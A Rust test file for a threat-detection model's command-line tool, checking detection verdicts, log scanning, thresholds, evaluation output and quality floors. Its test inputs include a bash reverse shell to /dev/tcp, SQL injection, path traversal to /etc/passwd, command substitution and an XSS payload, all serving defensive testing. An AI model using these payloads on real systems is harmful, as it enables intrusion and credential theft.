//! The shipped threat model end to end: `detect` on texts and files, `eval threat` with the
//! evaluation interface, and quality floors on our own hand-written set
//! (tests/fixtures/threat-dev-handwritten.jsonl, written by the team, never trained on).

mod common;

use cacao_forge::threat::corpus::read_examples;
use cacao_forge::threat::detector::DetectorOptions;
use cacao_forge::threat::eval::evaluate;
use cacao_forge::threat::shipped::{load_detector, DetectorSource};
use cacao_forge::threat::ThreatType;
use common::cli;
use serde_json::Value;
use std::path::Path;

const HANDWRITTEN: &str = "tests/fixtures/threat-dev-handwritten.jsonl";

fn detect_json(args: &[&str]) -> Value {
    let mut all = vec!["detect", "--json"];
    all.extend_from_slice(args);
    let (code, out, err) = cli(&all);
    assert_eq!(code, 0, "detect {args:?} failed: {err}");
    serde_json::from_str(&out).unwrap_or_else(|e| panic!("detect --json is not JSON ({e}): {out}"))
}

#[test]
fn a_single_text_gets_a_full_verdict_with_evidence() {
    let v = detect_json(&["--explain", "id=7' UNION SELECT username,password FROM users--"]);
    assert_eq!(v["is_threat"], true);
    assert_eq!(v["threat_type"], "sql_injection");
    let confidence = v["confidence"].as_f64().unwrap();
    assert!((0.0..=1.0).contains(&confidence));
    let scores = v["scores"].as_object().unwrap();
    assert_eq!(scores.len(), 11);
    let total: f64 = scores.values().map(|s| s.as_f64().unwrap()).sum();
    assert!((total - 1.0).abs() < 1e-3, "scores sum to {total}");
    assert!(v["members"].as_array().unwrap().len() >= 2, "an ensemble by default");
    let text = "id=7' UNION SELECT username,password FROM users--";
    let evidence = v["evidence"].as_array().unwrap();
    assert!(!evidence.is_empty(), "{v}");
    for e in evidence {
        let (s, t) = (e["start"].as_u64().unwrap() as usize, e["end"].as_u64().unwrap() as usize);
        assert_eq!(&text[s..t], e["text"].as_str().unwrap());
    }
    let explanation = v["explanation"].as_str().unwrap();
    assert!(explanation.starts_with("SECURITY THREAT DETECTED: SQL_INJECTION\nConfidence: "), "{explanation}");
    assert!(explanation.contains("Analysis: "));

    let benign = detect_json(&["Nov 22 09:14:03 app01 systemd[1]: Started Daily apt download activities."]);
    assert_eq!(benign["is_threat"], false);
    assert_eq!(benign["threat_type"], "benign");
}

#[test]
fn human_output_is_the_seed_explanation_format() {
    let (code, out, err) = cli(&["detect", "bash -i >& /dev/tcp/203.0.113.8/4444 0>&1"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("SECURITY THREAT DETECTED: "), "{out}");
    assert!(out.contains("Confidence: "), "{out}");
    assert!(out.contains("Scores: "), "{out}");
}

#[test]
fn a_log_file_gets_one_verdict_per_line_and_a_summary() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    let lines = [
        "10.1.4.22 - - [22/Nov/2026:09:16:01 +0000] \"GET /assets/site.css HTTP/1.1\" 200 18234",
        "",
        "10.9.8.7 - - [22/Nov/2026:09:20:00 +0000] \"GET /item.php?id=3%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\" 200 880",
        "{\"msg\": \"GET /download.php?file=../../../../etc/passwd\", \"level\": \"warn\"}",
    ];
    std::fs::write(&log, lines.join("\n")).unwrap();
    let path = log.to_str().unwrap();
    let (code, out, err) = cli(&["detect", "--json", "--file", path]);
    assert_eq!(code, 0, "{err}");
    let rows: Vec<Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(rows.len(), 3, "the empty line is skipped: {out}");
    assert_eq!(rows.iter().map(|r| r["line"].as_u64().unwrap()).collect::<Vec<_>>(), [1, 3, 4]);
    assert_eq!(rows[0]["is_threat"], false);
    assert_eq!(rows[1]["threat_type"], "sql_injection");
    assert_eq!(rows[2]["threat_type"], "path_traversal", "the JSON line's msg field is judged");
    assert!(err.contains("3 lines judged: 2 threats, 1 benign"), "{err}");

    let (code, out, _) = cli(&["detect", "--file", path, "--threats-only"]);
    assert_eq!(code, 0);
    assert!(out.contains("sql_injection") && !out.contains("assets/site.css"), "{out}");
    assert!(out.contains("3 lines judged"), "{out}");

    let (code, _, err) = cli(&["detect", "--file", "/no/such/file.log"]);
    assert_eq!(code, 2);
    assert!(err.contains("/no/such/file.log"), "{err}");
}

#[test]
fn threshold_and_ensemble_size_are_honoured() {
    let text = "name=$(whoami)";
    let strict = detect_json(&["--threshold", "1.0", text]);
    assert_eq!(strict["is_threat"], false, "nothing reaches probability 1: {strict}");
    let one = detect_json(&["--ensemble", "1", text]);
    assert_eq!(one["members"].as_array().unwrap().len(), 1);
    let (code, _, err) = cli(&["detect", "--threshold", "2", text]);
    assert_eq!(code, 2);
    assert!(err.contains("threshold"), "{err}");
    let (code, _, err) = cli(&["detect", "--ensemble", "0", text]);
    assert_eq!(code, 2, "{err}");
}

#[test]
fn the_adversarial_check_reports_consistency() {
    let v = detect_json(&["--adversarial", "q=<svg/onload=alert(document.domain)>"]);
    let a = &v["adversarial"];
    let consistency = a["verdict_consistency"].as_f64().unwrap();
    assert!((0.0..=1.0).contains(&consistency));
    assert!(a["variants"].as_array().unwrap().len() >= 10);
    assert_eq!(a["possible_adversarial"].as_bool().unwrap(), consistency < 0.8);
}

#[test]
fn eval_threat_writes_one_prediction_per_row_in_order() {
    let dir = tempfile::tempdir().unwrap();
    let predictions = dir.path().join("pred.jsonl");
    let (code, out, err) =
        cli(&["eval", "threat", "--data", HANDWRITTEN, "--json", "--predictions", predictions.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let report: Value = serde_json::from_str(&out).unwrap();
    let rows = read_examples(Path::new(HANDWRITTEN)).unwrap();
    assert_eq!(report["cases"].as_u64().unwrap() as usize, rows.len());
    let written = std::fs::read_to_string(&predictions).unwrap();
    let preds: Vec<Value> = written.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(preds.len(), rows.len());
    for p in &preds {
        let keys: Vec<&String> = p.as_object().unwrap().keys().collect();
        assert_eq!(keys, ["is_threat", "threat_type", "confidence"]);
        let t: ThreatType = p["threat_type"].as_str().unwrap().parse().unwrap();
        assert_eq!(t.is_threat(), p["is_threat"].as_bool().unwrap());
    }

    let bad = dir.path().join("bad.jsonl");
    std::fs::write(&bad, "{\"text\":\"a\",\"label\":\"benign\"}\n{\"text\":\"b\",\"threat_type\":\"ddos\"}\n").unwrap();
    let (code, _, err) = cli(&["eval", "threat", "--data", bad.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(err.contains("bad.jsonl:2:"), "{err}");
}

/// Floors under the hand-written set, a little below what the shipped model scores, so a
/// regression in data, normalization or training fails here.
#[test]
fn the_shipped_model_keeps_its_quality_on_the_hand_written_set() {
    let rows = read_examples(Path::new(HANDWRITTEN)).unwrap();
    let detector = load_detector(&DetectorSource::default(), DetectorOptions::default()).unwrap();
    let (report, _) = evaluate(&detector, &rows).unwrap();
    println!("{}", report.summary("hand-written"));
    assert!(report.binary.f1 >= BINARY_F1_FLOOR, "binary F1 {}", report.binary.f1);
    assert!(report.type_accuracy >= TYPE_ACCURACY_FLOOR, "type accuracy {}", report.type_accuracy);
    for label in [ThreatType::Phishing, ThreatType::Reconnaissance] {
        assert!(report.per_label[&label].recall >= 0.5, "{label} recall {}", report.per_label[&label].recall);
    }
}

const BINARY_F1_FLOOR: f32 = 0.95;
const TYPE_ACCURACY_FLOOR: f32 = 0.92;

/// The blind set (tests/fixtures/threat-dev-blind.jsonl: 560 rows written by someone who saw none
/// of our generators or training data). The shipped model scores binary F1 0.966 and type
/// accuracy 0.927 there; the floors sit a little below.
#[test]
fn the_shipped_model_keeps_its_quality_on_the_blind_set() {
    let rows = read_examples(Path::new("tests/fixtures/threat-dev-blind.jsonl")).unwrap();
    let detector = load_detector(&DetectorSource::default(), DetectorOptions::default()).unwrap();
    let (report, _) = evaluate(&detector, &rows).unwrap();
    println!("{}", report.summary("blind"));
    assert!(report.binary.f1 >= 0.94, "binary F1 {}", report.binary.f1);
    assert!(report.type_accuracy >= 0.90, "type accuracy {}", report.type_accuracy);
    assert!(report.ece <= 0.08, "expected calibration error {}", report.ece);
}

/// A short `train threat` on a small subset (n-gram members only: the encoder's own short
/// training is in tests/threat_encoder.rs): the whole path runs, every member's loss falls, the
/// written directory loads as a model, and it already beats chance on the hand-written set.
#[test]
fn a_short_train_threat_writes_a_model_that_loads_and_learned() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("model");
    let (code, stdout, err) = cli(&[
        "train",
        "threat",
        "--no-encoder",
        "--max-examples",
        "3000",
        "--synth-per-label",
        "150",
        "--ngram-epochs",
        "3",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "train threat failed: {err}\n{stdout}");

    let report: Value = serde_json::from_str(&std::fs::read_to_string(out.join("train-report.json")).unwrap()).unwrap();
    let members = report["members"].as_array().unwrap();
    assert_eq!(members.len(), 2, "two n-gram members without the encoder");
    for m in members {
        let losses: Vec<f64> =
            m["report"]["epochs"].as_array().unwrap().iter().map(|e| e["train_loss"].as_f64().unwrap()).collect();
        assert_eq!(losses.len(), 3);
        assert!(losses[2] < losses[0], "{}: loss did not fall: {losses:?}", m["member"]);
    }

    let (code, stdout, err) =
        cli(&["eval", "threat", "--data", HANDWRITTEN, "--json", "--model", out.to_str().unwrap()]);
    assert_eq!(code, 0, "eval with the trained model failed: {err}");
    let eval: Value = serde_json::from_str(&stdout).unwrap();
    let f1 = eval["binary"]["f1"].as_f64().unwrap();
    assert!(f1 > 0.7, "a model trained on 3,000 examples should separate threats from benign text: F1 {f1}");
}
